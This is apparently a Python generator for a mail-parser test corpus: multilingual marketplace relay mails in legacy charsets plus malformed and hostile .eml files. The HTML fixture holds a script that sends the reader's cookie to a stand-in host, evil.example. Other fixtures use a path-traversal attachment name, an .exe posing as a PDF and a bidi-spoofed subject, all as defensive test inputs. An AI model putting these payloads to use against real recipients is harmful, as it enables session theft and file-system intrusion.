"""Write the mail test corpus: real-looking marketplace relay mails and hostile files.

Run `python tests/data/mail/make_corpus.py` to (re)write the .eml files and
`expected.json` under tests/data/mail/; the tests read those files. All names,
addresses and order ids are invented. The large hostile inputs (50 MB, 100,000
attachments) are not written to disk: the tests build them with the functions here.

Each relay mail is a buyer's message through the marketplace relay, in one
language, in UTF-8 or a legacy charset (headers as RFC 2047 encoded words in
that charset, the body in it too), with a signature and the quoted earlier
message under a quote header as that language's mail clients write it.
"""

from __future__ import annotations

import base64
import json
import sys
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
SELLER = "service@harbour-goods.example"


@dataclass(frozen=True)
class Lang:
    code: str
    name: str  # the buyer's display name
    alias: str  # relay alias local part
    domain: str  # relay domain
    subject: str
    body: str  # the new text
    signature: str
    quote_header: str
    quoted: str  # the earlier text quoted under the header
    charsets: tuple[str, ...]  # legacy charsets this language is also written in


LANGS: tuple[Lang, ...] = (
    Lang(
        "en",
        "Jordan Ellery",
        "7qk2m9x4w1z8r5t",
        "marketplace.amazon.com",
        "Order 113-4829173-5520931: lid arrived cracked",
        "Hello,\nthe lid of the kettle arrived cracked.\nCould you send a replacement?",
        "Thanks,\nJordan",
        "On Mon, 4 Mar 2024 at 14:15, Harbour Goods <service@harbour-goods.example> wrote:",
        "Thank you for your order. It ships today.",
        ("windows-1252",),
    ),
    Lang(
        "de",
        "Lena Brückner",
        "3hd8x0q2m7v1c5n",
        "marketplace.amazon.de",
        "Bestellung 302-1187345-6678123: Deckel gebrochen",
        "Hallo,\nder Deckel des Wasserkochers ist gebrochen angekommen.\n"
        "Können Sie Ersatz schicken?",
        "Mit freundlichen Grüßen\nLena Brückner",
        "Am Mo., 4. März 2024 um 14:15 Uhr schrieb Harbour Goods <service@harbour-goods.example>:",
        "Vielen Dank für Ihre Bestellung. Sie wird heute versandt.",
        ("iso-8859-1", "iso-8859-15"),
    ),
    Lang(
        "ko",
        "김민지",
        "9xw2k4m1q8z7r3t",
        "marketplace.amazon.com",
        "주문 113-5550192-7781234 문의: 뚜껑이 깨졌어요",
        "안녕하세요,\n주전자 뚜껑이 깨진 채로 도착했습니다.\n교환해 주실 수 있나요?",
        "감사합니다.\n김민지 드림",
        "2024년 3월 4일 (월) 오후 2:15, Harbour Goods <service@harbour-goods.example>님이 작성:",
        "주문해 주셔서 감사합니다. 오늘 발송됩니다.",
        ("euc-kr", "ks_c_5601-1987"),
    ),
    Lang(
        "ru",
        "Ирина Соколова",
        "5tq1w8e3r6y0u2i",
        "marketplace.amazon.de",
        "Заказ 302-4417823-9901234: крышка треснула",
        "Здравствуйте,\nкрышка чайника пришла треснутой.\nМожете прислать замену?",
        "С уважением,\nИрина",
        "пн, 4 мар. 2024 г. в 14:15, Harbour Goods <service@harbour-goods.example>:",
        "Спасибо за заказ. Он будет отправлен сегодня.",
        ("koi8-r", "windows-1251"),
    ),
    Lang(
        "ar",
        "أحمد الفارس",
        "2mz8q4x7c1v9b3n",
        "marketplace.amazon.sa",
        "الطلب 405-7712093-1184520: الغطاء مكسور",
        "مرحبا،\nوصل غطاء الغلاية مكسورا.\nهل يمكنكم إرسال بديل؟",
        "مع تحياتي\nأحمد",
        "في الاثنين، 4 مارس 2024 في 2:15 م، Harbour Goods <service@harbour-goods.example> كتب:",
        "شكرا لطلبك. سيتم الشحن اليوم.",
        ("windows-1256", "iso-8859-6"),
    ),
    Lang(
        "zh",
        "王小明",
        "8rq3w1e5t7y9u0p",
        "marketplace.amazon.com",
        "订单 113-2204518-3309871：盖子裂了",
        "您好，\n水壶的盖子到货时已经裂了。\n可以给我换一个吗？",
        "谢谢，\n王小明",
        "在 2024年3月4日周一 14:15，Harbour Goods <service@harbour-goods.example> 写道：",
        "感谢您的订购。今天发货。",
        ("gb2312", "gbk", "gb18030"),
    ),
    Lang(
        "ja",
        "山田花子",
        "4kd9m2x6q0w8e1r",
        "marketplace.amazon.co.jp",
        "注文番号 503-6619284-4471025：ふたが割れていました",
        "お世話になっております。\nケトルのふたが割れた状態で届きました。\n交換していただけますか。",
        "--\n山田花子",
        "2024年3月4日(月) 14:15 Harbour Goods <service@harbour-goods.example>:",
        "ご注文ありがとうございます。本日発送いたします。",
        ("iso-2022-jp", "shift_jis", "euc-jp"),
    ),
    Lang(
        "es",
        "Lucía Fernández",
        "6yh2n8b4v0c7x1z",
        "marketplace.amazon.es",
        "Pedido 402-3318840-2275519: la tapa llegó rota",
        "Hola,\nla tapa del hervidor llegó rota.\n¿Pueden enviarme una de repuesto?",
        "Saludos,\nLucía",
        "El lun, 4 mar 2024 a las 14:15, Harbour Goods (<service@harbour-goods.example>) escribió:",
        "Gracias por su pedido. Sale hoy.",
        ("iso-8859-15", "windows-1252"),
    ),
    Lang(
        "fr",
        "Élodie Marchand",
        "1qa7z3w9s5x2e8d",
        "marketplace.amazon.fr",
        "Commande 171-9903321-0045872 : couvercle cassé",
        "Bonjour,\nle couvercle de la bouilloire est arrivé cassé.\n"
        "Pouvez-vous m'en envoyer un autre ?",
        "Cordialement,\nÉlodie",
        "Le lun. 4 mars 2024 à 14:15, Harbour Goods <service@harbour-goods.example> a écrit\u00a0:",
        "Merci pour votre commande. Elle part aujourd'hui.",
        ("iso-8859-1", "windows-1252"),
    ),
)


def encoded_word(text: str, charset: str) -> str:
    """RFC 2047 B-encoding of `text` in `charset`, split so no word is over 75 characters."""
    words: list[str] = []
    chunk = ""
    for char in text:
        trial = chunk + char
        if len(base64.b64encode(trial.encode(charset))) > 40:
            words.append(chunk)
            chunk = char
        else:
            chunk = trial
    words.append(chunk)
    return " ".join(
        f"=?{charset}?B?{base64.b64encode(w.encode(charset)).decode()}?=" for w in words if w
    )


def relay_mail(
    lang: Lang,
    charset: str = "utf-8",
    *,
    mail_id: str | None = None,
    in_reply_to: str | None = None,
    references: tuple[str, ...] = (),
    body: str | None = None,
) -> bytes:
    """A buyer's mail through the relay: headers and body in `charset`."""
    mail_id = mail_id or f"<{lang.code}-{charset}-1@relay.example>"
    if body is None:
        quoted = "\n".join(f"> {line}" for line in lang.quoted.split("\n"))
        body = f"{lang.body}\n\n{lang.signature}\n\n{lang.quote_header}\n{quoted}\n"
    name = f"{lang.name} - Amazon Marketplace"
    headers = [
        f"From: {encoded_word(name, charset)} <{lang.alias}@{lang.domain}>",
        f"To: {SELLER}",
        f"Subject: {encoded_word(lang.subject, charset)}",
        "Date: Mon, 4 Mar 2024 16:20:00 +0100",
        f"Message-ID: {mail_id}",
        "MIME-Version: 1.0",
        f'Content-Type: text/plain; charset="{charset}"',
        "Content-Transfer-Encoding: base64",
    ]
    if in_reply_to:
        headers.append(f"In-Reply-To: {in_reply_to}")
    if references:
        headers.append("References: " + "\r\n ".join(references))
    payload = base64.encodebytes(body.replace("\n", "\r\n").encode(charset)).decode()
    return ("\r\n".join(headers) + "\r\n\r\n" + payload.replace("\n", "\r\n")).encode("ascii")


def thread(lang: Lang) -> list[tuple[str, bytes, dict]]:
    """Three messages: the buyer asks, the seller answers quoting, the buyer answers quoting."""
    first_id = f"<{lang.code}-t1@relay.example>"
    second_id = f"<{lang.code}-t2@harbour-goods.example>"
    third_id = f"<{lang.code}-t3@relay.example>"
    first = relay_mail(lang, mail_id=first_id, body=lang.body + "\n")
    answer = lang.quoted
    quoted_first = "\n".join(f"> {line}" for line in lang.body.split("\n"))
    second_body = f"{answer}\n\n{lang.quote_header}\n{quoted_first}\n"
    second = relay_mail(
        lang, mail_id=second_id, in_reply_to=first_id, references=(first_id,), body=second_body
    )
    reply = lang.body.split("\n")[0]
    quoted_second = "\n".join(f"> {line}" for line in second_body.strip().split("\n"))
    third_body = f"{reply}\n\n{lang.quote_header}\n{quoted_second}\n"
    third = relay_mail(
        lang,
        mail_id=third_id,
        in_reply_to=second_id,
        references=(first_id, second_id),
        body=third_body,
    )
    return [
        ("1", first, {"mail_id": first_id, "body": lang.body, "references": []}),
        ("2", second, {"mail_id": second_id, "body": answer, "references": [first_id]}),
        ("3", third, {"mail_id": third_id, "body": reply, "references": [first_id, second_id]}),
    ]


def html_only() -> bytes:
    html = """<html><head><title>Order</title>
<style>p { color: red } .hide { display:none }</style>
<script>document.location='http://evil.example/?c='+document.cookie</script>
</head><body>
<p>Hello, the <b>kettle</b> arrived broken.</p>
<img src="http://tracker.example/pixel.gif?id=42" width="1" height="1">
<img src="https://images.example/photo.jpg" alt="">
<p>Order 113-4829173-5520931</p>
<iframe src="http://evil.example/frame">frame text</iframe>
<div class="gmail_quote">On Mon, 4 Mar 2024 at 14:15, Harbour Goods
&lt;service@harbour-goods.example&gt; wrote:<br>
<blockquote>Thank you for your order.</blockquote></div>
</body></html>"""
    return (
        "From: Jordan Ellery - Amazon Marketplace <7qk2m9x4w1z8r5t@marketplace.amazon.com>\r\n"
        f"To: {SELLER}\r\nSubject: Broken kettle\r\nDate: Tue, 5 Mar 2024 09:00:00 -0800\r\n"
        "Message-ID: <html-only@relay.example>\r\nMIME-Version: 1.0\r\n"
        "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n"
        "\r\n"
    ).encode() + _qp(html.encode())


def _qp(data: bytes) -> bytes:
    import quopri

    return quopri.encodestring(data).replace(b"\n", b"\r\n")


JPEG = (
    bytes.fromhex("ffd8ffe000104a46494600010100000100010000ffdb004300") + b"\x08" * 64 + b"\xff\xd9"
)
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48


def with_attachments() -> bytes:
    def part(media: str, disposition: str, data: bytes) -> str:
        return (
            f"--b1\r\nContent-Type: {media}\r\nContent-Disposition: {disposition}\r\n"
            "Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(data).decode() + "\r\n"
        )

    inner = (
        "From: Carrier <noreply@carrier.example>\r\nSubject: Delivered\r\n"
        "Message-ID: <inner@carrier.example>\r\n\r\nYour parcel was delivered.\r\n"
    )
    text = (
        "--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        "Photos and invoice attached. Order 113-4829173-5520931.\r\n"
    )
    return (
        "From: Jordan Ellery - Amazon Marketplace <7qk2m9x4w1z8r5t@marketplace.amazon.com>\r\n"
        f"To: {SELLER}\r\nSubject: Photos\r\nDate: Tue, 5 Mar 2024 09:00:00 -0800\r\n"
        "Message-ID: <attachments@relay.example>\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="b1"\r\n\r\n'
        + text
        + part("image/jpeg", 'attachment; filename="kettle lid.jpg"', JPEG)
        + part("application/pdf", "attachment; filename*=utf-8''Rechnung%20M%C3%A4rz.pdf", PDF)
        + part("application/octet-stream", 'attachment; filename="invoice.pdf.exe"', EXE)
        + part("application/pdf", 'attachment; filename="../../etc/passwd.pdf"', PDF)
        + part("image/jpeg", 'inline; filename="=?utf-8?B?7IKs7KeELmpwZw==?="', JPEG)
        + "--b1\r\nContent-Type: message/rfc822\r\n\r\n"
        + inner
        + "\r\n--b1--\r\n"
    ).encode()


def hostile() -> dict[str, bytes]:
    """Small hostile files, by name (big ones are built by the tests)."""
    head = (
        "From: Jordan Ellery - Amazon Marketplace <7qk2m9x4w1z8r5t@marketplace.amazon.com>\r\n"
        f"To: {SELLER}\r\nSubject: hostile\r\nDate: Tue, 5 Mar 2024 09:00:00 -0800\r\n"
        "Message-ID: <hostile@relay.example>\r\n"
    ).encode()
    nested = head + b"MIME-Version: 1.0\r\n"
    for depth in range(200):
        nested += b'Content-Type: multipart/mixed; boundary="n%d"\r\n\r\n--n%d\r\n' % (depth, depth)
    nested += b"Content-Type: text/plain\r\n\r\ndeep down\r\n"
    for depth in reversed(range(200)):
        nested += b"--n%d--\r\n" % depth
    truncated = base64.b64encode("Здравствуйте, крышка треснула.".encode())[:-3]
    return {
        "empty": b"",
        "binary_junk": bytes((i * 7919 + 13) % 256 for i in range(20000)),
        "only_text": b"just some words, no headers at all\n",
        "nested_200": nested,
        "truncated_base64": head
        + b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        + truncated,
        "bad_quoted_printable": head
        + b"Content-Type: text/plain; charset=utf-8\r\n"
        + b"Content-Transfer-Encoding: quoted-printable\r\n\r\nBroken =ZZ lid =C3=A4 and =E2=\r\n",
        "missing_boundary": head
        + b"Content-Type: multipart/mixed\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\nhi\r\n",
        "unknown_charset": head
        + b"Content-Type: text/plain; charset=x-klingon-8\r\n\r\nnuqneH \xfc\xfd lid broken",
        "nul_bytes": head + b"Content-Type: text/plain\r\n\r\nlid\x00 broken\x00\r\n",
        "year_99999": head.replace(b"2024", b"99999") + b"\r\nlid broken\r\n",
        "broken_encoded_words": head.replace(
            b"Subject: hostile", b"Subject: =?utf-8?B?not base64!?= =?utf-8?Q?caf=C3=A9?= =?bad"
        )
        + b"\r\nbody\r\n",
        "raw_8bit_subject": head.replace(b"Subject: hostile", "Subject: Крышка".encode("koi8-r"))
        + b"Content-Type: text/plain; charset=koi8-r\r\n\r\n"
        + "Крышка треснула".encode("koi8-r"),
        "huge_header_line": head + b"X-Junk: " + b"a" * 1_000_000 + b"\r\n\r\nbody\r\n",
        "many_headers": head
        + b"".join(b"X-Header-%d: value %d\r\n" % (i, i) for i in range(10_000))
        + b"\r\nbody\r\n",
        "bidi_subject": head.replace(
            b"Subject: hostile", "Subject: invoice\u202efdp.exe\x07 ok".encode()
        )
        + b"\r\nbody\r\n",
    }


def write() -> None:
    expected: dict[str, dict] = {}
    relay = HERE / "relay"
    relay.mkdir(exist_ok=True)
    for lang in LANGS:
        for charset in ("utf-8", *lang.charsets):
            name = f"{lang.code}-{charset}.eml"
            (relay / name).write_bytes(relay_mail(lang, charset))
            expected[f"relay/{name}"] = {
                "lang": lang.code,
                "from_name": f"{lang.name} - Amazon Marketplace",
                "from_address": f"{lang.alias}@{lang.domain}",
                "subject": lang.subject,
                "body": lang.body,
                "quoted": lang.quoted,
            }
        threads = HERE / "threads"
        threads.mkdir(exist_ok=True)
        for number, raw, facts in thread(lang):
            name = f"{lang.code}-{number}.eml"
            (threads / name).write_bytes(raw)
            expected[f"threads/{name}"] = facts
    other = HERE / "other"
    other.mkdir(exist_ok=True)
    (other / "html-only.eml").write_bytes(html_only())
    (other / "attachments.eml").write_bytes(with_attachments())
    hostile_dir = HERE / "hostile"
    hostile_dir.mkdir(exist_ok=True)
    for name, raw in hostile().items():
        if len(raw) < 200_000:
            (hostile_dir / f"{name}.eml").write_bytes(raw)
    (HERE / "expected.json").write_text(
        json.dumps(expected, ensure_ascii=False, indent=1, sort_keys=True) + "\n", encoding="utf-8"
    )


if __name__ == "__main__":
    write()
    sys.exit(0)
